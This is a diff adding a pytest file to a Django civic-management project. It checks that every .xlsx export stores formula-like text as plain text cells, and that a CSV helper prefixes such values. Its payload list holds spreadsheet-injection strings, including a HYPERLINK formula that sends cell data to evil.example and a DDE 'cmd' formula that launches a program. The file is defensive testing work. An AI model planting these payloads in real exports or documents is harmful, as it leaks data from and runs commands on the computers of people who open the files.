@@ -1,0 +1,132 @@
+"""No export carries a formula (issue 14, acceptance 2; TARGETS S10).
+
+Every text field of every exported record holds a classic spreadsheet
+payload; every ``.xlsx`` route of the URL conf (units, points, indicators,
+the task ledger, findings, tasks, volunteers, sign-ups and hours, the
+bulletin, import reports — and any export added later, since the routes are
+walked, not listed) must come back with those strings as text cells, none
+as a formula."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from django.db import models
+from django.urls import URLPattern, URLResolver, get_resolver
+from openpyxl import load_workbook
+
+from campaigns.models import ImportJob, Membership
+from civportal.xlsx import csv_safe
+from scores.models import MonthlyScore
+
+from ..api.world import build_world
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?p="&B2,"x")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3",
+            "\tTAB", "\rCR"]
+SKIP_FIELDS = {"path", "username", "password", "key_hash", "prefix", "email", "phone", "id_number", "status",
+               "kind", "role", "source", "severity", "level", "code_type", "language", "event", "url"}
+pytestmark = pytest.mark.django_db
+
+
+def xlsx_routes() -> list[tuple[str, str]]:
+    """(name, route) of every URL ending in .xlsx."""
+    found = []
+
+    def walk(patterns, prefix="", namespace=""):
+        for p in patterns:
+            if isinstance(p, URLResolver):
+                ns = f"{namespace}{p.namespace}:" if p.namespace else namespace
+                walk(p.url_patterns, prefix + str(p.pattern), ns)
+            elif isinstance(p, URLPattern) and str(p.pattern).endswith(".xlsx"):
+                found.append((namespace + (p.name or ""), prefix + str(p.pattern)))
+
+    walk(get_resolver().url_patterns)
+    return sorted(found)
+
+
+def poison(model, offset=0) -> int:
+    """Put payloads into every free-text field of every row; returns how many fields were poisoned."""
+    fields = [f for f in model._meta.concrete_fields
+              if isinstance(f, (models.CharField, models.TextField)) and not f.choices and f.name not in SKIP_FIELDS]
+    for n, pk in enumerate(model.objects.values_list("pk", flat=True)):
+        values = {}
+        for i, f in enumerate(fields):
+            payload = PAYLOADS[(n + i + offset) % len(PAYLOADS)]
+            # Unique fields: the trigger, the row's id, then the payload (still a formula to a spreadsheet).
+            value = f"{payload[0]}{pk} {payload}" if f.unique or f.name in {"code", "name"} else payload
+            values[f.name] = value[: f.max_length] if f.max_length else value
+        if values:
+            model.objects.filter(pk=pk).update(**values)
+    return len(fields)
+
+
+@pytest.fixture
+def poisoned(city, personas):
+    from django.apps import apps
+
+    world = build_world(city, personas)
+    MonthlyScore.objects.update(rank=1)
+    ImportJob.objects.update(errors=[{"row": 2, "column": p, "message": p} for p in PAYLOADS])
+    poisoned_models = []
+    for label in ["campaigns.Unit", "campaigns.Campaign", "campaigns.IndicatorSystem", "campaigns.Indicator",
+                  "campaigns.PointType", "campaigns.Point", "campaigns.WorkItem", "campaigns.Membership",
+                  "campaigns.User", "inspections.Finding", "inspections.FindingCategory",
+                  "inspections.RectificationTask", "volunteers.Volunteer", "volunteers.Team", "volunteers.Activity",
+                  "volunteers.Signup"]:
+        try:
+            model = apps.get_model(label)
+        except LookupError:
+            continue
+        if poison(model):
+            poisoned_models.append(label)
+    assert len(poisoned_models) >= 10
+    return world
+
+
+def route_url(route: str, world) -> str:
+    ids = {"campaigns/<int:pk>/ledger": world.plan.campaign.pk, "editions/<int:pk>": world.plan.system.pk,
+           "imports/<int:pk>": world.job.pk, "activities/<int:pk>": world.activity.pk}
+    url = "/" + route
+    for prefix, pk in ids.items():
+        if prefix in route:
+            url = url.replace("<int:pk>", str(pk))
+    assert "<" not in url, f"give the test an object for {route}"
+    if "bulletin" in route:
+        url += f"?campaign={world.plan.campaign.pk}&month=2026-10"
+    return url
+
+
+def test_every_export_route_is_known():
+    names = {name for name, _route in xlsx_routes()}
+    assert {"campaigns:unit_export", "inspections:finding_export", "inspections:task_export",
+            "volunteers:volunteer_export", "scores:bulletin_xlsx"} <= names, names
+
+
+@pytest.mark.parametrize("name,route", xlsx_routes())
+def test_export_has_no_formula_cell(name, route, poisoned, personas, client):
+    client.force_login(personas.supervisor)
+    response = client.get(route_url(route, poisoned))
+    assert response.status_code == 200, (name, response.status_code)
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))  # formulas kept as formulas
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
+    assert formulas == [], (name, formulas[:5])
+    exported = [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(
+        tuple(p[0] for p in PAYLOADS)) and any(p in cell.value for p in PAYLOADS)]
+    assert exported, f"{name}: no payload reached the export, so this test would prove nothing"
+    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
+
+
+def test_export_keeps_the_text_unchanged(poisoned, personas, client, city):
+    client.force_login(personas.supervisor)
+    response = client.get("/units/export.xlsx")
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    values = {cell.value for row in workbook.active.iter_rows() for cell in row}
+    city.city.refresh_from_db()
+    assert city.city.name in values and city.city.name.startswith(tuple(p[0] for p in PAYLOADS))
+
+
+def test_csv_values_are_prefixed():
+    assert [csv_safe(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
+    assert csv_safe("正常文本") == "正常文本" and csv_safe(12) == 12
